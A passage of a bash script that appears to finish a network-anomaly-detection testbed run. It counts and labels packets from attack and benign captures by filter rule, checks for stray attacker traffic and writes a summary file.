    m=$(count_in_window "$OUT/attack.pcap" "$lo" "$hi" "$rule")
    b=$(count_in_window "$OUT/benign.pcap" "$lo" "$hi" "$rule")
    dur=$(printf '%.1f' "$(echo "$t1 - $t0" | bc)")
    note="$m/$ATTACK_TOTAL pkts matched. testbed attack '$name': $desc; ran ${dur} s (exit $rc). $b pkts match in benign.pcap."
    [[ $rc -ne 0 ]] && log "warning: attack $name exited $rc (see $W/attack-$name.log)"
    [[ $m -eq 0 ]] && log "warning: attack $name matched no packet"
    printf 'attack.pcap\t%s\t%s\t%s\t%s\t%s\n' "$cat" "$ah" "$vh" "$rule" "$note" >>"$OUT/labels.tsv"
    ALL_RULES+="${ALL_RULES:+ || }($rule)"
    printf '%-13s %-12s %6d pkts  %5.1f s  exit %s\n' "$name" "$cat" "$m" "$dur" "$rc" >>"$W/summary-rows"
done <"$W/attacks.tsv"

# attacker traffic that no label covers (should be ARP only)
stray_ip=$(count "$OUT/attack.pcap" "ip.addr==$ATK_IP${ALL_RULES:+ && !($ALL_RULES)}")
stray_arp=$(count "$OUT/attack.pcap" "arp && eth.addr==$ATK_MAC${ALL_RULES:+ && !($ALL_RULES)}")
labelled=$( [[ -n $ALL_RULES ]] && count "$OUT/attack.pcap" "$ALL_RULES" || echo 0)

{
    echo "nad testbed run: profile $PROFILE, $(date -u +%FT%TZ)"
    echo "benign phase:  $(printf '%.0f' "$(echo "$T_ATTACK - $T_BENIGN" | bc)") s, $BENIGN_TOTAL pkts (benign.pcap)"
    echo "attack phase:  $(printf '%.0f' "$(echo "$T_END_ATTACK - $T_ATTACK" | bc)") s + 5 s settle, $ATTACK_TOTAL pkts (attack.pcap), $labelled labelled"
    echo "attacker pkts outside every label: $stray_ip IP (should be 0), $stray_arp ARP (address resolution)"
    echo "total run:     $(( $(date +%s) - T_SETUP )) s"
    echo
    cat "$W/summary-rows" 2>/dev/null || true
    echo
    for f in testbed benign attack; do capinfos -c -s -u "$OUT/$f.pcap" | sed 1d; done
} >"$OUT/summary.txt"
cat "$OUT/summary.txt" >&2
log "done: $OUT/{testbed,benign,attack}.pcap, labels.tsv, summary.txt"
